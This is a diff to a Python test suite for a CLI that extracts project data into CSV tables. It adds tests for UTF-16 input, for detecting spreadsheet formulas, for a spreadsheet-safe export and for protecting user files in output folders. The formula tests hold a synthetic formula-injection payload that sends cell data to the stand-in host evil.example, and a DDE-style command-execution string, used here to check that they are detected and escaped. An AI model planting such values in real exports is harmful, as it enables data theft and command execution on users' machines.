@@ -7,7 +7,10 @@ a sentinel set of files and checks that their bytes are exactly as before.
 
 from __future__ import annotations
 
+import codecs
 import csv
+import html
+import json
 import os
 import shutil
 import signal
@@ -24,7 +27,7 @@ from reportlab.lib.pagesizes import A4
 from reportlab.pdfgen import canvas
 from typer.testing import CliRunner
 
-from amif_extract import write
+from amif_extract import formulas, write
 from amif_extract.cli import app
 from amif_extract.sources import sha256_of
 
@@ -264,6 +267,33 @@ def test_a_windows_1252_text_is_decoded_with_a_finding(raw_dir: Path, tmp_path: 
     )
 
 
+@pytest.mark.parametrize("codec", ["utf-16", "utf-16-be"])
+def test_a_utf16_text_with_its_byte_order_mark_is_read_as_text(
+    raw_dir: Path, tmp_path: Path, codec: str
+) -> None:
+    """What Windows Notepad saves as "Unicode": same rows as the UTF-8 original, no finding about it."""
+    original = (raw_dir / WEB_PAGE).read_text(encoding="utf-8")
+    data = original.encode(codec)
+    if codec == "utf-16-be":
+        data = codecs.BOM_UTF16_BE + data  # the codec with a named byte order writes no mark itself
+    wide = tmp_path / "asti_utf16.txt"
+    wide.write_bytes(data)
+    assert cli("extract", str(wide), "--out", str(tmp_path / "wide")).exit_code == 0
+    assert cli("extract", str(raw_dir / WEB_PAGE), "--out", str(tmp_path / "utf8")).exit_code == 0
+    for table in ("conventions.csv", "findings.csv"):
+        utf16_rows = csv_rows(tmp_path / "wide" / table, ["source_file", "finding_id"])
+        assert utf16_rows == csv_rows(tmp_path / "utf8" / table, ["source_file", "finding_id"])
+    [convention] = csv_rows(tmp_path / "wide" / "conventions.csv")
+    assert (convention["organisation"], convention["year"]) == ("ASTI", "2021")
+
+
+def test_utf16_without_its_byte_order_mark_is_refused_saying_so(raw_dir: Path, tmp_path: Path) -> None:
+    wide = tmp_path / "asti_utf16.txt"
+    wide.write_bytes((raw_dir / WEB_PAGE).read_text(encoding="utf-8").encode("utf-16-le"))
+    line = assert_refused(extract_refused(tmp_path, wide), "asti_utf16.txt", "UTF-16", "byte-order mark")
+    assert "binary" not in line
+
+
 def test_crlf_line_endings_give_the_same_rows(raw_dir: Path, tmp_path: Path) -> None:
     original = (raw_dir / AMIF_TEXT).read_bytes()
     assert b"\r\n" not in original
@@ -278,6 +308,92 @@ def test_crlf_line_endings_give_the_same_rows(raw_dir: Path, tmp_path: Path) -> 
     assert csv_rows(tmp_path / "crlf" / "amif_projects.csv", ["source_file"]) == lf_rows
     assert (len(lf_rows), lf_rows[1]["title"]) == (38, "Motirõ")
     assert not any("\r" in value for row in crlf_rows for value in row.values())
+
+
+# ----------------------------------------------------------------------------------- spreadsheet formulas
+
+IOM_PAGE = "oim_france_projets.txt"
+PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
+
+
+def test_a_formula_in_a_source_is_kept_and_flagged_in_findings_and_report(
+    raw_dir: Path, tmp_path: Path
+) -> None:
+    """The issue's line: the IOM page's project "4. MAGNET" renamed to a formula (synthetic, hostile)."""
+    raw = raw_copy(raw_dir, tmp_path, IOM_PAGE)
+    page = (raw / IOM_PAGE).read_text(encoding="utf-8")
+    assert page.count("\n4. MAGNET\n") == 1
+    replace_source_file(raw, IOM_PAGE, page.replace("\n4. MAGNET\n", f"\n4. {PAYLOAD}\n").encode("utf-8"))
+    line = page.split("\n").index("4. MAGNET") + 1
+    out = tmp_path / "out"
+    result = cli("build", "--raw", str(raw), "--out", str(out))
+    assert result.exit_code == 0, result.stderr
+
+    [project] = [row for row in csv_rows(out / "narrative_projects.csv") if row["name"] == PAYLOAD]
+    assert project["project_id"] == "iom-ongoing-04"  # faithful data: the value as printed...
+    [finding] = [row for row in csv_rows(out / "findings.csv") if row["code"] == "formula_like_value"]
+    assert {key: finding[key] for key in ("severity", "table", "row_id", "column", "value")} == {
+        "severity": "warning",  # ...flagged where it is
+        "table": "narrative_projects",
+        "row_id": "iom-ongoing-04",
+        "column": "name",
+        "value": PAYLOAD,
+    }
+    assert (finding["source_file"], finding["source_line"]) == (IOM_PAGE, str(line))
+
+    report = json.loads((out / "validation_report.json").read_bytes())
+    [entry] = [entry for entry in report["findings"] if entry["code"] == "formula_like_value"]
+    assert entry["finding_id"] == finding["finding_id"] and entry["value"] == PAYLOAD
+    page_html = (out / "validation_report.html").read_text(encoding="utf-8")
+    assert f'id="finding-{finding["finding_id"]}"' in page_html
+    assert 'id="code-formula_like_value"' in page_html
+    assert html.escape(PAYLOAD) in page_html and PAYLOAD not in page_html
+
+
+def test_the_opt_in_spreadsheet_safe_copy_marks_the_formula_as_text(raw_dir: Path, tmp_path: Path) -> None:
+    raw = raw_copy(raw_dir, tmp_path, IOM_PAGE)
+    page = (raw / IOM_PAGE).read_text(encoding="utf-8")
+    replace_source_file(raw, IOM_PAGE, page.replace("\n4. MAGNET\n", f"\n4. {PAYLOAD}\n").encode("utf-8"))
+    build, safe = tmp_path / "out", tmp_path / "for-excel"
+    assert cli("build", "--raw", str(raw), "--out", str(build)).exit_code == 0
+    result = runner.invoke(app, ["spreadsheet-safe", str(build), "--out", str(safe)])
+    assert result.exit_code == 0, result.stderr
+    # The findings table repeats the value in its finding: the copy marks it there too.
+    marked = "findings: 1, narrative_projects: 1"
+    assert result.stdout == f"wrote 8 table(s) to {safe}; cells marked as text: {marked}\n"
+
+    [project] = [
+        row for row in csv_rows(safe / "narrative_projects.csv") if row["project_id"] == "iom-ongoing-04"
+    ]
+    assert project["name"] == "'" + PAYLOAD
+    published = csv_rows(build / "narrative_projects.csv")
+    assert csv_rows(safe / "narrative_projects.csv") == [
+        {**row, "name": "'" + PAYLOAD} if row["name"] == PAYLOAD else row for row in published
+    ]
+    copied = folder_bytes(safe)
+    assert sorted(copied) == sorted([write.OUTPUTS_RECORD, *(p.name for p in build.glob("*.csv"))])
+    [finding] = [row for row in csv_rows(safe / "findings.csv") if row["code"] == "formula_like_value"]
+    assert finding["value"] == "'" + PAYLOAD
+    for name in copied.keys() - {write.OUTPUTS_RECORD, "narrative_projects.csv", "findings.csv"}:
+        assert copied[name] == (build / name).read_bytes(), name  # dialect kept, CRLF of the Kohesio CSV too
+
+    assert_refused(cli("spreadsheet-safe", str(build), "--out", str(build)), str(build), "cannot replace")
+    (safe / "thesis.docx").write_bytes(b"x\n")
+    assert_refused(cli("spreadsheet-safe", str(build), "--out", str(safe)), str(safe), "'thesis.docx'")
+
+
+def test_negative_amounts_phone_numbers_and_bullets_are_not_flagged() -> None:
+    """The brochure prints "- " bullets and "+352" numbers: the committed build of raw/ flags none."""
+    findings = csv_rows(PROJECT_ROOT / "normalized" / "findings.csv")
+    assert not [row for row in findings if row["code"] == "formula_like_value"]
+    contacts = csv_rows(PROJECT_ROOT / "normalized" / "practice_contacts.csv")
+    sheets = csv_rows(PROJECT_ROOT / "normalized" / "practice_sheets.csv")
+    assert any(row["phone"].startswith("+352") for row in contacts)
+    assert any(row["objectives"].startswith("- ") for row in sheets)
+    for kept in ("-1234.56", "-1 234,56 €", "- Stratégie(s) communale(s)", "+35226360277; +352661360288"):
+        assert not formulas.is_formula_like(kept), kept
+    for flagged in ("@SUM(A1)", "\t=1+1", "\r=1", "-2+3+cmd|' /C calc'!A0", "+A1", '-HYPERLINK("x")'):
+        assert formulas.is_formula_like(flagged), flagged
 
 
 # ----------------------------------------------------------------------------------- manifest
@@ -326,9 +442,208 @@ def test_a_folder_that_is_not_an_earlier_output_is_not_replaced(raw_dir: Path, t
     (home / "Documents").mkdir(parents=True)
     (home / "Documents" / "thesis.tex").write_bytes(b"\\chapter{AMIF}\n")
     result = cli("extract", str(raw_dir / WEB_PAGE), "--out", str(home))
-    assert_refused(result, str(home), "not an earlier build")
+    assert_refused(result, str(home), "'Documents/'", "did not write")
     assert folder_bytes(home) == {"Documents/thesis.tex": b"\\chapter{AMIF}\n"}
     assert leftovers(home) == []
+
+
+def tree(folder: Path) -> dict[str, bytes | str]:
+    """Every entry under `folder`: a file's bytes, a link's target, an empty folder as "dir"."""
+    entries: dict[str, bytes | str] = {}
+    for path in sorted(folder.rglob("*")):
+        relative = path.relative_to(folder).as_posix()
+        if path.is_symlink():
+            entries[relative] = f"-> {os.readlink(path)}"
+        elif path.is_file():
+            entries[relative] = path.read_bytes()
+        elif not any(path.iterdir()):
+            entries[relative] = "dir"
+    return entries
+
+
+def test_the_issue_reproduction_keeps_the_users_thesis(raw_dir: Path, tmp_path: Path) -> None:
+    """`mkdir -p d/review && echo x > d/thesis.docx && amif-extract build --out d` deleted thesis.docx."""
+    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE)
+    folder = tmp_path / "d"
+    (folder / "review").mkdir(parents=True)
+    (folder / "thesis.docx").write_bytes(b"x\n")
+    result = cli("build", "--raw", str(raw), "--out", str(folder))
+    assert_refused(result, str(folder), "'thesis.docx'", "did not write", "refusing")
+    assert tree(folder) == {"review": "dir", "thesis.docx": b"x\n"}
+    assert leftovers(folder) == []
+
+
+@pytest.fixture
+def own_output(raw_dir: Path, tmp_path: Path) -> tuple[Path, Path]:
+    """A copy of raw/ reading the web page only, and the folder a build of it wrote."""
+    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE)
+    out = tmp_path / "out"
+    assert cli("build", "--raw", str(raw), "--out", str(out)).exit_code == 0
+    return raw, out
+
+
+def put_foreign_entry(out: Path, outside: Path, entry: str) -> str:
+    """Put one thing the tool did not write into `out`; returns how the refusal names it."""
+    outside.mkdir(exist_ok=True)
+    (outside / "notes.md").write_bytes(b"# my notes\n")
+    if entry == "user_file":
+        (out / "thesis.docx").write_bytes(b"PK\x03\x04 a user's thesis")
+        return "'thesis.docx'"
+    if entry == "file_in_an_output_folder":
+        (out / "review" / "my_decisions.csv").write_bytes(b"name,decision\n")
+        return "'review/my_decisions.csv'"
+    if entry == "git":
+        (out / ".git" / "refs").mkdir(parents=True)
+        (out / ".git" / "HEAD").write_bytes(b"ref: refs/heads/main\n")
+        return "'.git/'"
+    if entry == "link_to_a_file":
+        (out / "notes.md").symlink_to(outside / "notes.md")
+        return "'notes.md (a symbolic link)'"
+    if entry == "link_to_a_folder":
+        (out / "photos").symlink_to(outside)
+        return "'photos (a symbolic link)'"
+    if entry == "link_named_as_an_output":
+        (out / "findings.csv").unlink()
+        (out / "findings.csv").symlink_to(outside / "notes.md")
+        return "'findings.csv (a symbolic link)'"
+    assert entry == "empty_sub_folder"
+    (out / "photos").mkdir()
+    return "'photos/'"
+
+
+@pytest.mark.parametrize(
+    "entry",
+    [
+        "user_file",
+        "file_in_an_output_folder",
+        "git",
+        "link_to_a_file",
+        "link_to_a_folder",
+        "link_named_as_an_output",
+        "empty_sub_folder",
+    ],
+)
+def test_an_earlier_output_holding_a_foreign_entry_is_refused_and_kept_whole(
+    own_output: tuple[Path, Path], tmp_path: Path, entry: str
+) -> None:
+    raw, out = own_output
+    named = put_foreign_entry(out, tmp_path / "outside", entry)
+    before = tree(out)
+    result = cli("build", "--raw", str(raw), "--out", str(out))
+    assert_refused(result, str(out), named, "did not write")
+    assert tree(out) == before
+    assert tree(tmp_path / "outside") == {"notes.md": b"# my notes\n"}
+    assert leftovers(out) == []
+
+
+def test_the_cli_refuses_in_a_subprocess_with_one_line(own_output: tuple[Path, Path]) -> None:
+    """The installed command, not the runner: exit 2, one line on stderr, the user's files intact."""
+    raw, out = own_output
+    (out / ".git").mkdir()
+    (out / ".git" / "config").write_bytes(b"[core]\n")
+    before = tree(out)
+    command = [sys.executable, str(PROJECT_ROOT / "cli.py"), "--quiet", "build", "--raw", str(raw)]
+    finished = subprocess.run([*command, "--out", str(out)], capture_output=True, text=True, timeout=120)
+    assert finished.returncode == 2, finished.stderr
+    assert finished.stderr.splitlines() == [
+        f"error: {out}: output folder holds '.git/', which amif-extract did not write; refusing to replace"
+        " the folder (move that away or choose another --out)"
+    ]
+    assert tree(out) == before
+
+
+def test_an_own_output_folder_is_built_again_and_keeps_its_record(own_output: tuple[Path, Path]) -> None:
+    raw, out = own_output
+    record = json.loads((out / write.OUTPUTS_RECORD).read_bytes())
+    assert record["format"] == write.OUTPUTS_RECORD_FORMAT
+    assert record["files"] == sorted(name for name in folder_bytes(out) if name != write.OUTPUTS_RECORD)
+    assert "review/organisation_matches.csv" in record["files"] and "conventions.csv" in record["files"]
+    first = folder_bytes(out)
+    result = cli("build", "--raw", str(raw), "--out", str(out))
+    assert result.exit_code == 0, result.stderr
+    assert folder_bytes(out) == first
+    assert leftovers(out) == []
+
+
+def test_a_folder_written_before_the_record_is_adopted(raw_dir: Path, tmp_path: Path) -> None:
+    """Only the tool's output names, no record (an older version): replaced, and now recorded."""
+    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE)
+    out = previous_output(tmp_path)
+    for name in ("validation_report.html", "validation_report.json", "datapackage.json", "findings.parquet"):
+        (out / name).write_bytes(b"older version\n")
+    result = cli("build", "--raw", str(raw), "--out", str(out))
+    assert result.exit_code == 0, result.stderr
+    assert "sentinel" not in (out / "amif_projects.csv").read_text(encoding="utf-8")
+    assert write.recorded_outputs(out) == set(folder_bytes(out))
+
+
+def test_a_folder_written_before_the_record_with_a_user_file_is_refused(
+    raw_dir: Path, tmp_path: Path
+) -> None:
+    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE)
+    out = previous_output(tmp_path)
+    (out / "old_table.csv").write_bytes(b"id\n")  # not an output name of this version
+    result = cli("build", "--raw", str(raw), "--out", str(out))
+    assert_refused(result, str(out), "'old_table.csv'")
+    assert folder_bytes(out) == {**SENTINEL_FILES, "old_table.csv": b"id\n"}
+
+
+@pytest.mark.parametrize(
+    "record", [b"not json", b'{"format": "something else", "files": []}', b'{"format": 1}', b"[1]"]
+)
+def test_a_record_the_tool_did_not_write_is_refused(own_output: tuple[Path, Path], record: bytes) -> None:
+    raw, out = own_output
+    (out / write.OUTPUTS_RECORD).write_bytes(record)
+    before = tree(out)
+    result = cli("build", "--raw", str(raw), "--out", str(out))
+    assert_refused(result, write.OUTPUTS_RECORD, "refusing")
+    assert tree(out) == before
+
+
+def test_a_record_cannot_claim_a_path_outside_the_folder(own_output: tuple[Path, Path]) -> None:
+    raw, out = own_output
+    record = json.loads((out / write.OUTPUTS_RECORD).read_bytes())
+    record["files"].append("../elsewhere.txt")
+    (out / write.OUTPUTS_RECORD).write_text(json.dumps(record), encoding="utf-8")
+    assert_refused(cli("build", "--raw", str(raw), "--out", str(out)), write.OUTPUTS_RECORD, "unknown format")
+
+
+def test_a_symlinked_out_writes_into_its_folder_and_stays_a_link(own_output: tuple[Path, Path]) -> None:
+    """`--out link` stands for the folder the link points at: that folder is checked and replaced."""
+    raw, out = own_output
+    link = out.with_name("current")
+    link.symlink_to(out, target_is_directory=True)
+    (out / "conventions.csv").write_bytes(b"stale\n")
+    result = cli("build", "--raw", str(raw), "--out", str(link))
+    assert result.exit_code == 0, result.stderr
+    assert link.is_symlink() and link.resolve() == out.resolve()
+    assert (out / "conventions.csv").read_bytes() != b"stale\n"
+    (out / "thesis.docx").write_bytes(b"x\n")  # the linked folder is guarded like any other
+    assert_refused(cli("build", "--raw", str(raw), "--out", str(link)), str(out), "'thesis.docx'")
+    assert (out / "thesis.docx").read_bytes() == b"x\n"
+
+
+def test_a_symlinked_out_to_nothing_is_refused(raw_dir: Path, tmp_path: Path) -> None:
+    raw = raw_copy(raw_dir, tmp_path, WEB_PAGE)
+    link = tmp_path / "current"
+    link.symlink_to(tmp_path / "gone", target_is_directory=True)
+    assert_refused(cli("build", "--raw", str(raw), "--out", str(link)), str(link), "symbolic link")
+    assert link.is_symlink() and not (tmp_path / "gone").exists()
+
+
+def test_a_users_folder_named_like_the_swap_leftover_is_not_removed(own_output: tuple[Path, Path]) -> None:
+    """`out.previous` is where a swap parks the old output; a user's folder of that name stays."""
+    raw, out = own_output
+    parked = out.with_name("out.previous")
+    parked.mkdir()
+    (parked / "thesis.docx").write_bytes(b"x\n")
+    result = cli("build", "--raw", str(raw), "--out", str(out))
+    assert_refused(result, "out.previous", "'thesis.docx'", "did not write")
+    assert tree(parked) == {"thesis.docx": b"x\n"}
+    shutil.rmtree(out)  # and with no output folder, it is not taken for an interrupted swap
+    result = cli("build", "--raw", str(raw), "--out", str(out))
+    assert result.exit_code == 0, result.stderr
+    assert tree(parked) == {"thesis.docx": b"x\n"}
 
 
 # ----------------------------------------------------------------------------------- limits
@@ -502,8 +817,8 @@ def test_two_writes_to_one_output_folder_take_turns(tmp_path: Path, monkeypatch:
         except BaseException as error:  # reported by the assertion below, not lost in the thread
             errors.append(error)
 
-    first_files = {"amif_projects.csv": b"project_id\nfirst\n"}
-    second_files = {"amif_projects.csv": b"project_id\nsecond\n", "findings.csv": b"finding_id\n"}
+    first_files = {**SENTINEL_FILES, "amif_projects.csv": b"project_id\nfirst\n"}
+    second_files = {**SENTINEL_FILES, "amif_projects.csv": b"project_id\nsecond\n"}
     first = threading.Thread(target=writer, args=(first_files,), name="first")
     second = threading.Thread(target=writer, args=(second_files,), name="second")
     first.start()
@@ -512,10 +827,85 @@ def test_two_writes_to_one_output_folder_take_turns(tmp_path: Path, monkeypatch:
     second.join(timeout=0.5)
     assert second.is_alive()  # waiting for the first write's lock...
     [staging] = [name for name in leftovers(out) if name.startswith(".out.staging-")]
-    assert folder_bytes(tmp_path / staging) == first_files  # ...without clearing its staging folder
+    staged = write.with_outputs_record(first_files)
+    assert folder_bytes(tmp_path / staging) == staged  # ...without clearing its staging folder
     release_first.set()
     first.join(timeout=30)
     second.join(timeout=30)
     assert errors == []
-    assert folder_bytes(out) == second_files
+    assert folder_bytes(out) == write.with_outputs_record(second_files)
     assert leftovers(out) == []
+
+
+# ----------------------------------------------------------------------------------- check and diff
+
+
+def cut_swap(out: Path) -> Path:
+    """The state a build killed between its swap's two renames leaves: only `out.previous`."""
+    previous = out.with_name("out.previous")
+    out.rename(previous)
+    return previous
+
+
+def test_check_restores_an_output_a_cut_swap_left_aside(own_output: tuple[Path, Path]) -> None:
+    raw, out = own_output
+    before = folder_bytes(out)
+    cut_swap(out)
+    result = cli("check", "--raw", str(raw), "--normalized", str(out), "--format", "json")
+    data = json.loads(result.stdout)
+    assert data["notes"] == [f"{out} restored from {out}.previous, left by an interrupted build"]
+    assert (result.exit_code, data["output_differences"]) == (0, [])
+    assert folder_bytes(out) == before and leftovers(out) == []
+
+
+def test_diff_restores_an_output_a_cut_swap_left_aside(own_output: tuple[Path, Path], tmp_path: Path) -> None:
+    _, out = own_output
+    other = tmp_path / "other"
+    shutil.copytree(out, other)
+    cut_swap(out)
+    result = cli("diff", str(other), str(out))
+    assert result.exit_code == 0, result.stderr
+    assert f"note: {out} restored from {out}.previous, left by an interrupted build" in result.stdout
+    assert result.stdout.endswith("no differences in the files read (see the notes)\n")
+    assert leftovers(out) == []
+
+
+def test_diff_names_an_aside_output_it_cannot_restore(tmp_path: Path) -> None:
+    """Written before the record (older version): diff does not take it for its own; it says where it is."""
+    out = previous_output(tmp_path)
+    previous = cut_swap(out)
+    result = cli("diff", str(previous), str(out))
+    assert_refused(result, str(out), "build folder not found", f"{previous} holds an earlier build")
+    assert folder_bytes(previous) == SENTINEL_FILES
+
+
+def test_diff_of_raw_folders_says_the_edited_text_was_not_read(raw_dir: Path, tmp_path: Path) -> None:
+    """The AMIF text edited, its PDF unchanged: a build reads the PDF, and diff says so."""
+    old = raw_copy(raw_dir, tmp_path, AMIF_PDF, AMIF_TEXT)
+    new = tmp_path / "edited"
+    shutil.copytree(old, new)
+    text = (new / AMIF_TEXT).read_bytes()
+    assert text.count("94 092.97€".encode()) == 1
+    replace_source_file(new, AMIF_TEXT, text.replace("94 092.97€".encode(), "94 092.98€".encode()))
+    result = cli("diff", str(old), str(new), "--table", "amif_projects")
+    assert result.exit_code == 0, result.stderr
+    assert result.stdout.splitlines()[2:5] == [
+        f"note: {AMIF_TEXT} differs between the two folders, but no build reads it",
+        f"note: read {AMIF_PDF} for document amif_projets_cofinances; {AMIF_TEXT} was not compared"
+        " (a build reads one file per document, the PDF where there is one)",
+        "amif_projects: 0 added, 0 removed, 0 changed, 38 unchanged (rows matched by project_id)",
+    ]
+    assert result.stdout.endswith("no differences in the files read (see the notes)\n")
+
+
+def test_check_compares_the_record_of_outputs_like_any_output(own_output: tuple[Path, Path]) -> None:
+    """The record is part of what a build writes: a folder without it is out of date, like a lost table."""
+    raw, out = own_output
+    passed = cli("check", "--raw", str(raw), "--normalized", str(out), "--format", "json")
+    assert passed.exit_code == 0, passed.stdout
+    (out / write.OUTPUTS_RECORD).unlink()
+    (out / ".gitkeep").write_bytes(b"")  # other hidden files are not outputs, as before
+    result = cli("check", "--raw", str(raw), "--normalized", str(out), "--format", "json")
+    assert result.exit_code == 1
+    differences = json.loads(result.stdout)["output_differences"]
+    assert differences == [{"file": f"{out}/{write.OUTPUTS_RECORD}", "line": None, "status": "missing"}]
